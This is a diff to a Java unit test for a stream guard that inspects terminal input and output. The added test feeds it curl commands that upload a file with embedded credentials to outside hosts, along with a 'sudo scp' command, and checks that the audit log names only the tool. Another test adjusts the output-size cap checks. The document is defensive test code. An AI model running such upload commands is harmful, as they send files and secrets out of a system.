@@ -161,6 +161,16 @@ class StreamGuardTest {
   }
 
   @Test
+  void theAuditedMatchNamesTheToolButNotItsArguments() {
+    GuardVerdict v = type(guard(true), "curl -u vendor:Sup3rSecret -T face.jpg http://203.0.113.9/\r");
+    assertThat(v.ruleId()).isEqualTo("default.input.http-upload");
+    assertThat(v.match()).isEqualTo("curl");
+    GuardVerdict w = type(guard(true), "ls; curl -uvendor:Sup3rSecret -T face.jpg http://x/\r");
+    assertThat(w.match()).isEqualTo("curl");
+    assertThat(type(guard(true), "sudo scp a b:\r").match()).isEqualTo("sudo scp");
+  }
+
+  @Test
   void withoutATerminalBlockBecomesTerminate() {
     assertThat(type(guard(false), "base64 face.jpg\n").action()).isEqualTo(GuardAction.TERMINATE);
   }
@@ -234,14 +244,15 @@ class StreamGuardTest {
     assertThat(g.error(chunk, 0, 90).passed()).isTrue();
     assertThat(g.output(chunk, 0, 20).action()).isEqualTo(GuardAction.TERMINATE); // 110 > 100 per window
     StreamGuard total = new StreamGuard(rules, true, clock);
-    for (int i = 0; i < 11; i++) {
-      now.addAndGet(11_000);
+    for (int i = 0; i < 12; i++) {
+      now.addAndGet(11_000); // every chunk in a fresh rate window: only the total counts
       GuardVerdict v = total.output(chunk, 0, 90);
-      if (i < 11 && 90L * (i + 1) <= 1000) {
+      if (90L * (i + 1) <= 1000) {
         assertThat(v.passed()).isTrue();
       } else {
         assertThat(v.ruleId()).isEqualTo("cap");
-        assertThat(v.offset()).isEqualTo(1000);
+        assertThat(v.reason()).contains("exceeds 1000 bytes");
+        assertThat(v.offset()).isEqualTo(1000); // the first byte beyond the cap
       }
     }
   }
